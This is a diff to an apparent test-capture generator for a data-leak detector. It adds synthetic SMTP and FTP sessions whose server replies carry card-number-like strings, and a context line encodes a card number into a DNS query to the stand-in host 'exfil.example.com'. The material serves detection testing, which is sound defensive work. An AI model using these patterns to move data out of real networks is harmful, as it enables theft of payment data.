@@ -406,6 +406,23 @@ def dns_tcp_server_capture(outdir):
     cap.write_pcap(out_path(outdir, "dns-tcp-inside-server.pcap"))
 
 
+SRV_SMTP_CARD = b"5371142600881007"  # a reply line of an inside SMTP server
+SRV_FTP_CARD = b"4024007182131002"   # a reply line of an inside FTP server
+
+
+def inside_servers_capture(outdir):
+    """Outside clients, inside SMTP and FTP servers whose replies leave (pcaps/README.md)."""
+    cap = Capture()
+    session(cap, 47064, 25, [("s", b"220 mx.example.com ESMTP\r\n"),
+                             ("c", b"EHLO client.example\r\n"),
+                             ("s", b"250-mx.example.com note " + SRV_SMTP_CARD + b"\r\n250 OK\r\n"),
+                             ("c", b"QUIT\r\n"), ("s", b"221 bye\r\n")], cip=OUT, sip=IN)
+    session(cap, 47065, 21, [("s", b"220 FTP ready\r\n"), ("c", b"USER guest\r\n"),
+                             ("s", b"331 note " + SRV_FTP_CARD + b"\r\n"),
+                             ("c", b"QUIT\r\n"), ("s", b"221 bye\r\n")], cip=OUT, sip=IN)
+    cap.write_pcap(out_path(outdir, "smtp-ftp-inside-server.pcap"))
+
+
 def dns_tls_capture(outdir):
     cap = Capture()
     q = DNS(id=0x4242, rd=1, qd=DNSQR(qname=CARD.decode() + ".exfil.example.com", qtype="TXT"))
@@ -628,6 +645,7 @@ def main():
     dns_tcp_capture(outdir)
     dns_hidden_capture(outdir)
     dns_tcp_server_capture(outdir)
+    inside_servers_capture(outdir)
     websocket_capture(outdir)
 
 
